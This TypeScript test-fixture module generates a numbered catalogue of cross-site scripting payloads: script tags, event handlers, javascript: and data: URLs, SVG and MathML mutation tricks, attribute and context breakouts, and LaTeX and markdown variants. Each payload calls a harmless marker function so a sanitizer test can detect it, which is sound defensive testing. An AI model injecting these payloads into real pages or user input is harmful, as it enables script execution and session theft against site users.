/**
 * Texts that try to run script in a page, each with its own number: a vector that works calls `xss(number)`.
 * Families: script elements, event handlers, addresses, SVG, MathML, frames, meta and base, styles, templates
 * and shadow roots, texts that a second parsing turns into elements, broken markup, escapes for the places
 * where a page puts texts (attributes, JSON, scripts, comments, titles), formulas and DOM names.
 */

type Vector = (call: string) => string;

const decimal = (text: string) =>
  Array.from(text, (character) => `&#${String(character.codePointAt(0))};`).join('');
const hex = (text: string) =>
  Array.from(text, (character) => `&#x${(character.codePointAt(0) ?? 0).toString(16)};`).join('');
const percent = (text: string) =>
  Array.from(
    text,
    (character) => `%${(character.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`,
  ).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const page = (call: string) => `<script>parent.${call}</script>`;

const scripts: Vector[] = [
  (x) => `<script>${x}</script>`,
  (x) => `<scr<script>ipt>${x}</scr</script>ipt>`,
  (x) => `<script/x>${x}</script>`,
  (x) => `<script type="module">${x}</script>`,
  (x) => `<script src="data:text/javascript,${x}"></script>`,
  (x) => `<script>${x}`,
  (x) => `<<script>${x}//<</script>`,
  (x) => `<script xmlns="http://www.w3.org/1999/xhtml">${x}</script>`,
  (x) => `<noscript><p title="</noscript><script>${x}</script>"></noscript>`,
  (x) => `</p></div></main><script>${x}</script>`,
];

const handlers: Vector[] = [
  (x) => `<img src=x onerror=${x}>`,
  (x) => `<img src=x ONERROR='${x}'>`,
  (x) => `<img src=x onerror=\`${x}\`>`,
  (x) => `<img/src=x/onerror=${x}>`,
  (x) => `<img\nsrc=x\nonerror\n=\n${x}>`,
  (x) => `<img src=x onerror\u000c=${x}>`,
  (x) => `<img src="x"onerror="${x}">`,
  (x) => `<img """><img src=x onerror=${x}>">`,
  (x) => `<img src=x:${x} onerror=eval(src.slice(2))>`,
  (x) => `<img src=x onerror=${decimal(x)}>`,
  (x) => `<img src="/api/images/a.png" onerror="${x}">`,
  (x) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${x}" onerror="${x}">`,
  (x) => `<image src=x onerror=${x}>`,
  (x) => `<audio src=x onerror=${x}></audio>`,
  (x) => `<video><source onerror="${x}"></video>`,
  (x) => `<body onload=${x}>`,
  (x) => `<input autofocus onfocus=${x}>`,
  (x) => `<button onclick=${x}>Go</button>`,
  (x) => `<p onmouseover=${x}>x</p>`,
  (x) => `<p tabindex=1 id=a onfocus=${x} autofocus>x</p>`,
  (x) => `<details open ontoggle=${x}><summary>x</summary></details>`,
  (x) => `<dialog open onclose=${x}><form method=dialog><button>Go</button></form></dialog>`,
  (x) => `<marquee onstart=${x}>x</marquee>`,
  (x) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${x}">x</p>`,
  (x) => `<a href="#" onclick="${x}">Go</a>`,
  (x) => `<abbr title="x" onmouseover="${x}">x</abbr>`,
  (x) => `<table background="x" onmouseover="${x}"><tr><td>x</td></tr></table>`,
];

const addresses: Vector[] = [
  (x) => `<a href="javascript:${x}">Go</a>`,
  (x) => `<a href="JaVaScRiPt:${x}">Go</a>`,
  (x) => `<a href=" \n javascript:${x}">Go</a>`,
  (x) => `<a href="java\nscript:${x}">Go</a>`,
  (x) => `<a href="java&#10;script:${x}">Go</a>`,
  (x) => `<a href="java&Tab;script:${x}">Go</a>`,
  (x) => `<a href="javascript&colon;${x}">Go</a>`,
  (x) => `<a href="&#106;avascript:${x}">Go</a>`,
  (x) => `<a href="${hex(`javascript:${x}`)}">Go</a>`,
  (x) => `<a href="&#1;javascript:${x}">Go</a>`,
  (x) => `<a href="javascript:${percent(x)}">Go</a>`,
  (x) => `<a href="javascript://x%0a${x}">Go</a>`,
  (x) => `<a href="vbscript:${x}">Go</a>`,
  (x) => `<a href="data:text/html,${page(x)}">Go</a>`,
  (x) => `<a href="data:text/html;base64,${base64(page(x))}">Go</a>`,
  (x) => `<a href="feed:javascript:${x}">Go</a>`,
  (x) => `<form action="javascript:${x}"><button>Go</button></form>`,
  (x) => `<form id=f></form><button form=f formaction="javascript:${x}">Go</button>`,
  (x) => `<input type=image formaction="javascript:${x}" src=x>`,
  (x) => `<img src="javascript:${x}">`,
  (x) => `<map name=m><area shape=default href="javascript:${x}"></map><img usemap=#m src=x>`,
  (x) => `<a ping="javascript:${x}" href="#">Go</a>`,
  (x) => `<blockquote cite="javascript:${x}">x</blockquote>`,
  (x) => `[Go](javascript:${x})`,
];

const svg: Vector[] = [
  (x) => `<svg onload=${x}>`,
  (x) => `<svg/onload=${x}>`,
  (x) => `<svg><script>${x}</script></svg>`,
  (x) => `<svg><script>${hex(x)}</script></svg>`,
  (x) => `<svg><script href="data:text/javascript,${x}" /></svg>`,
  (x) => `<svg><a xlink:href="javascript:${x}"><text y=20>Go</text></a></svg>`,
  (x) => `<svg><a href="javascript:${x}"><text y=20>Go</text></a></svg>`,
  (x) =>
    `<svg><a><animate attributeName=href values="javascript:${x}" /><text y=20>Go</text></a></svg>`,
  (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s></svg>`,
  (x) => `<svg><foreignObject><img src=x onerror=${x}></foreignObject></svg>`,
  (x) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${x}></svg>#x" /></svg>`,
  (x) => `<svg><style><img src=x onerror=${x}></style></svg>`,
  (x) => `<svg><image href=x onerror=${x} /></svg>`,
  (x) => `<svg></p><style><a id="</style><img src=x onerror=${x}>">`,
];

const mathml: Vector[] = [
  (x) => `<math><mtext><img src=x onerror=${x}></mtext></math>`,
  (x) => `<math href="javascript:${x}">Go</math>`,
  (x) => `<math><maction actiontype="statusline" xlink:href="javascript:${x}">Go</maction></math>`,
  (x) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${x}></annotation-xml></math>`,
  (x) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${x}&gt;">`,
  (x) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${x}></style></mglyph></form>`,
  (x) => `<math><mi><style><img src=x onerror=${x}></style></mi></math>`,
];

const frames: Vector[] = [
  (x) => `<iframe src="javascript:parent.${x}"></iframe>`,
  (x) => `<iframe srcdoc="${page(x)}"></iframe>`,
  (x) => `<iframe srcdoc="&lt;img src=x onerror=parent.${x}&gt;"></iframe>`,
  (x) => `<iframe src="data:text/html,${page(x)}"></iframe>`,
  (x) => `<iframe onload=${x}></iframe>`,
  (x) => `<iframe srcdoc='<svg onload=parent.${x}>' sandbox="allow-scripts allow-same-origin">`,
  (x) => `<object data="javascript:${x}"></object>`,
  (x) => `<object data="data:text/html,${page(x)}"></object>`,
  (x) => `<object onerror=${x} data=x></object>`,
  (x) => `<embed src="javascript:${x}">`,
  (x) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${x}'/>">`,
  (x) => `<frameset onload=${x}><frame></frameset>`,
];

const pageWide: Vector[] = [
  (x) => `<meta http-equiv="refresh" content="0;url=javascript:${x}">`,
  (x) => `<meta http-equiv="refresh" content="0;url=data:text/html,${page(x)}">`,
  (x) => `<base href="javascript:${x}//"><a href="#">Go</a>`,
  (x) => `<link rel="stylesheet" href="data:text/css,*{}" onload="${x}">`,
  (x) => `<style onload=${x}></style>`,
  (x) => `<style>*{background:url("javascript:${x}")}</style>`,
  (x) => `<style>@import "javascript:${x}";</style>`,
  (x) => `<p style="background:url(javascript:${x})">x</p>`,
  (x) => `<p style="width:expression(${x})">x</p>`,
  (x) => `<p style="-moz-binding:url(data:text/xml,${x})">x</p>`,
];

const reparsed: Vector[] = [
  (x) => `<template><script>${x}</script></template>`,
  (x) => `<template><img src=x onerror=${x}></template>`,
  (x) => `<div><template shadowrootmode=open><img src=x onerror=${x}></template></div>`,
  (x) => `<noscript><img title="</noscript><img src=x onerror=${x}>"></noscript>`,
  (x) => `<textarea><img title="</textarea><img src=x onerror=${x}>"></textarea>`,
  (x) => `<title><img title="</title><img src=x onerror=${x}>"></title>`,
  (x) => `<style><img title="</style><img src=x onerror=${x}>"></style>`,
  (x) => `<noembed><img title="</noembed><img src=x onerror=${x}>"></noembed>`,
  (x) => `<plaintext><img src=x onerror=${x}>`,
  (x) => `<!--><img src=x onerror=${x}>-->`,
  (x) => `<!--<img src="--><img src=x onerror=${x}>">`,
  (x) => `<!-- --!><img src=x onerror=${x}>-->`,
  (x) => `<![CDATA[<img src=x onerror=${x}>]]>`,
  (x) => `<?xml version="1.0"?><img src=x onerror=${x}>`,
  (x) => `<!doctype x[<!ENTITY y "<img src=x onerror=${x}>">]>&y;`,
  (x) => `<p title="&lt;img src=x onerror=${x}&gt;">&lt;img src=x onerror=${x}&gt;</p>`,
  (x) => `&lt;script&gt;${x}&lt;/script&gt;`,
  (x) => `&amp;lt;img src=x onerror=${x}&amp;gt;`,
  (x) => `<listing>&lt;img src=x onerror=${x}&gt;</listing>`,
  (x) => `<a title="--></script></style></title><img src=x onerror=${x}>">x</a>`,
  (x) => `<img alt="\`\`onerror=${x}" src=x>`,
  (x) => `<table><td><p></table><img src=x onerror=${x}>`,
];

const places: Vector[] = [
  (x) => `"><script>${x}</script>`,
  (x) => `'><img src=x onerror=${x}>`,
  (x) => `" autofocus onfocus="${x}`,
  (x) => `' onmouseover='${x}`,
  (x) => `</title><script>${x}</script>`,
  (x) => `</script><script>${x}</script>`,
  (x) => `<!--<script>${x}`,
  (x) => `</textarea><img src=x onerror=${x}>`,
  (x) => `--><img src=x onerror=${x}>`,
  (x) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${x}</script>`,
  (x) => `";${x};//`,
  (x) => `';${x};//`,
  (x) => `\${${x}}`,
  (x) => `{{constructor.constructor('${x}')()}}`,
  (x) => `javascript:${x}`,
  (x) => `\\u003cimg src=x onerror=${x}\\u003e`,
  (x) => `\u2028${x}\u2029`,
  (x) => `$\\href{javascript:${x}}{Go}$`,
  (x) => `$\\url{javascript:${x}}$`,
  (x) => `$\\htmlData{x="><img src=x onerror=${x}>}{x}$`,
  (x) => `$\\htmlStyle{background:url(javascript:${x})}{x}$`,
  (x) => `$\\includegraphics[alt=x]{javascript:${x}}$`,
  (x) => `$\\text{<img src=x onerror=${x}>}$`,
  (x) => `$x<img src=x onerror=${x}>$`,
  (x) => `$$\\text{</annotation><script>${x}</script>}$$`,
  (x) => `<p>$x</p><img title="$" src=x onerror=${x}>`,
  (x) => `<a href="https://example.org/$" title="$ onclick=${x} ">Go</a>`,
  (x) => `<a id=location href="javascript:${x}">Go</a>`,
  (x) => `<form name=body><input name=innerHTML value="<img src=x onerror=${x}>"></form>`,
];

const ALL = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...svg,
  ...mathml,
  ...frames,
  ...pageWide,
  ...reparsed,
  ...places,
];

/** Every vector; the one at place n calls `xss(n)` when it works. */
export const XSS_VECTORS: readonly string[] = ALL.map((make, index) => make(`xss(${index})`));

/** Vectors that fit a field, in turn: `shortVector(30, n)` is never longer than 30 characters. */
export const shortVector = (limit: number, turn: number): string => {
  const fitting = XSS_VECTORS.filter((vector) => vector.length <= limit);
  return fitting[turn % fitting.length] ?? '<b>';
};
